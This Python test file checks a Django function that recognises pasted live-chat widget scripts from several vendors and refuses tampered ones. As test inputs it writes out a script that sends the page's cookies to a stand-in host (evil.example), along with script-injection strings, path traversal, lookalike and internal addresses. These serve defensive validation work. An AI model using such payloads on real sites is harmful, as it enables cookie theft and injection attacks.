"""Scripts as the vendors show them, and what a hostile or damaged one gets."""

import pytest
from django.utils import timezone

from company.chat_vendors import BadScript, recognise, source_hosts
from core.scope import public_scope
from domains.models import Domain, Surface

SMARTSUPP = """<!-- Smartsupp Live Chat script -->
<script type="text/javascript">
var _smartsupp = _smartsupp || {};
_smartsupp.key = '8fde5e5a0b5beef908e268b0f2dab6b97c538dd9';
window.smartsupp||(function(d) {
  var s,c,o=smartsupp=function(){ o._.push(arguments)};o._=[];
  s=d.getElementsByTagName('script')[0];c=d.createElement('script');
  c.type='text/javascript';c.charset='utf-8';c.async=true;
  c.src='https://www.smartsuppchat.com/loader.js?';s.parentNode.insertBefore(c,s);
})(document);
</script>
<noscript> Powered by <a href="https://www.smartsupp.com" target="_blank">Smartsupp</a></noscript>"""
TIDIO = '<script src="//code.tidio.co/4cydyg5ubfb3qqcdbfu16cyytczaxlds.js" async></script>'
TAWK = """<!--Start of Tawk.to Script-->
<script type="text/javascript">
var Tawk_API=Tawk_API||{}, Tawk_LoadStart=new Date();
(function(){
var s1=document.createElement("script"),s0=document.getElementsByTagName("script")[0];
s1.async=true;
s1.src='https://embed.tawk.to/645f277b74285f0ec46b34d0/1h0ngmpml';
s1.charset='UTF-8';
s1.setAttribute('crossorigin','*');
s0.parentNode.insertBefore(s1,s0);
})();
</script>
<!--End of Tawk.to Script-->"""
CRISP = (
    '<script type="text/javascript">window.$crisp=[];window.CRISP_WEBSITE_ID="c46126df-9865-4cd1-82ee-dbe93bd42485";'
    '(function(){d=document;s=d.createElement("script");s.src="https://client.crisp.chat/l.js";s.async=1;'
    'd.getElementsByTagName("head")[0].appendChild(s);})();</script>'
)
CHATWOOT = """<script>
  (function(d,t) {
    var BASE_URL="https://app.chatwoot.com";
    var g=d.createElement(t),s=d.getElementsByTagName(t)[0];
    g.src=BASE_URL+"/packs/js/sdk.js";
    g.async = true;
    s.parentNode.insertBefore(g,s);
    g.onload=function(){
      window.chatwootSDK.run({
        websiteToken: 'coVW3GVVA4bpCSXrfLwGrJSo',
        baseUrl: BASE_URL
      })
    }
  })(document,"script");
</script>"""
OTHER = '<script async src="https://widget.livehelp.example/v2/start.js?id=77"></script>'

pytestmark = pytest.mark.usefixtures("in_isp")


@pytest.mark.parametrize(
    ("script", "vendor", "account", "host"),
    [
        (SMARTSUPP, "smartsupp", "8fde5e5a0b5beef908e268b0f2dab6b97c538dd9", ""),
        (TIDIO, "tidio", "4cydyg5ubfb3qqcdbfu16cyytczaxlds", ""),
        (TIDIO.replace("//code", "https://code"), "tidio", "4cydyg5ubfb3qqcdbfu16cyytczaxlds", ""),
        (TAWK, "tawk", "645f277b74285f0ec46b34d0/1h0ngmpml", ""),
        (TAWK.replace("1h0ngmpml", "default"), "tawk", "645f277b74285f0ec46b34d0/default", ""),
        (CRISP, "crisp", "c46126df-9865-4cd1-82ee-dbe93bd42485", ""),
        (CHATWOOT, "chatwoot", "coVW3GVVA4bpCSXrfLwGrJSo", "app.chatwoot.com"),
        (
            CHATWOOT.replace("app.chatwoot.com", "Chat.WispMega.net/"),
            "chatwoot",
            "coVW3GVVA4bpCSXrfLwGrJSo",
            "chat.wispmega.net",
        ),
        (
            CHATWOOT.replace("app.chatwoot.com", "chat.wisp.net:8443"),
            "chatwoot",
            "coVW3GVVA4bpCSXrfLwGrJSo",
            "chat.wisp.net:8443",
        ),
    ],
)
def test_a_known_vendor_is_reduced_to_its_id(script, vendor, account, host):
    chat = recognise(script)
    assert (chat.vendor, chat.account, chat.host, chat.script) == (vendor, account, host, "")


@pytest.mark.parametrize("script", [SMARTSUPP, TIDIO, TAWK, CRISP, CHATWOOT])
def test_code_beside_a_known_script_is_dropped(script):
    chat = recognise(script + '<script>fetch("https://evil.example/?"+document.cookie)</script>')
    assert "evil" not in f"{chat.account}{chat.host}{chat.script}"
    assert chat == recognise(script)


@pytest.mark.parametrize(
    ("script", "says"),
    [
        (SMARTSUPP.replace("8fde5e5a", "');alert(1)//"), "looks like Smartsupp"),
        (SMARTSUPP.replace("dd9'", "dd'"), "looks like Smartsupp"),
        (TIDIO.replace(".js", "/../x.js"), "looks like Tidio"),
        (TIDIO.replace("4cyd", "4CYD"), "looks like Tidio"),
        (TAWK.replace("/1h0ngmpml", "/../../evil"), "looks like Tawk.to"),
        (TAWK.replace("645f", "<img"), "looks like Tawk.to"),
        (CRISP.replace("c46126df", 'c46126df";alert(1);"'), "looks like Crisp"),
        (CHATWOOT.replace("coVW3GVV", "co'+x+'"), "looks like Chatwoot"),
        (CHATWOOT.replace("https://app.chatwoot.com", ""), "cannot be loaded"),
        (CHATWOOT.replace("https://app", "http://app"), "does not begin with https://"),
        (CHATWOOT.replace("https://app", "javascript://app"), "does not begin with https://"),
        (CHATWOOT.replace("app.chatwoot.com", "a.example; script-src *"), "cannot be loaded"),
        (CHATWOOT.replace("app.chatwoot.com", "user:pass@a.example"), "cannot be loaded"),
        (CHATWOOT.replace("app.chatwoot.com", "*.example"), "cannot be loaded"),
        (CHATWOOT.replace("app.chatwoot.com", "127.0.0.1"), "cannot be loaded"),
        (CHATWOOT.replace("app.chatwoot.com", "[::1]"), "cannot be loaded"),
        (CHATWOOT.replace("app.chatwoot.com", "intranet"), "cannot be loaded"),
        (CHATWOOT.replace("app.chatwoot.com", "a.example:99999"), "cannot be loaded"),
        (CHATWOOT.replace("app.chatwoot.com", "a.example/path"), "is not the address of a Chatwoot"),
        (CHATWOOT.replace("app.chatwoot.com", "app.localhost"), "cannot be loaded"),
        (CHATWOOT.replace("app.chatwoot.com", "fibrandina.localhost"), "cannot be loaded"),
        (SMARTSUPP + TIDIO, "several chats at once: Smartsupp, Tidio"),
        (TIDIO + TIDIO.replace("4cyd", "5cyd"), "looks like Tidio"),
        ("<script>alert(1)</script>", "no address"),
        ("Hello", "no address"),
        ('<script src="http://widget.example/a.js"></script>', "does not begin with https://"),
        ('<script src="https://a.example/a.js"></script><img src="https://app.localhost/x">', "cannot be loaded"),
        ('<script src="//10.0.0.1/a.js"></script>', "cannot be loaded"),
        ("".join(f'<img src="https://h{i}.example/">' for i in range(9)), "too many addresses"),
        (OTHER + " " * 10 + "x" * 5000, "longer than"),
    ],
)
def test_a_hostile_or_damaged_script_is_refused_with_its_reason(script, says):
    with pytest.raises(BadScript, match=says):
        recognise(script)


@pytest.mark.parametrize(
    "address",
    [
        "https://embed.tawk.to.evil.example/645f277b74285f0ec46b34d0/1h0ngmpml",
        "https://evil.example/?https://embed.tawk.to/645f277b74285f0ec46b34d0/1h0ngmpml",
        "https://embed.tawk.to@evil.example/645f277b74285f0ec46b34d0/1h0ngmpml",
    ],
)
def test_an_address_that_only_resembles_a_known_one_is_not_trusted(address):
    script = f"<script>s.src='{address}'</script>"
    try:
        chat = recognise(script)
    except BadScript:
        return
    assert chat.vendor == "other"
    assert next(source_hosts(chat.script)).endswith("evil.example")


def test_an_unknown_script_is_kept_as_pasted_with_the_hosts_that_it_loads_from():
    script = (
        OTHER
        + """<script>var s=document.createElement("script");s.src = "//Cdn.LiveHelp.example/b.js";
      t.setAttribute('src', 'https://cdn.livehelp.example/c.js')</script>"""
    )
    chat = recognise(f"\n{script}\n")
    assert (chat.vendor, chat.account, chat.script) == ("other", "", script)
    assert list(source_hosts(script)) == ["widget.livehelp.example", "cdn.livehelp.example"]


def test_the_domain_of_any_isp_is_refused_like_ours(other_isp):
    with public_scope():
        Domain.objects.create(
            isp=other_isp, host="clientes.fibrandina.example", surface=Surface.PORTAL, verified_at=timezone.now()
        )
    with pytest.raises(BadScript, match="cannot be loaded"):
        recognise(CHATWOOT.replace("app.chatwoot.com", "clientes.fibrandina.example"))
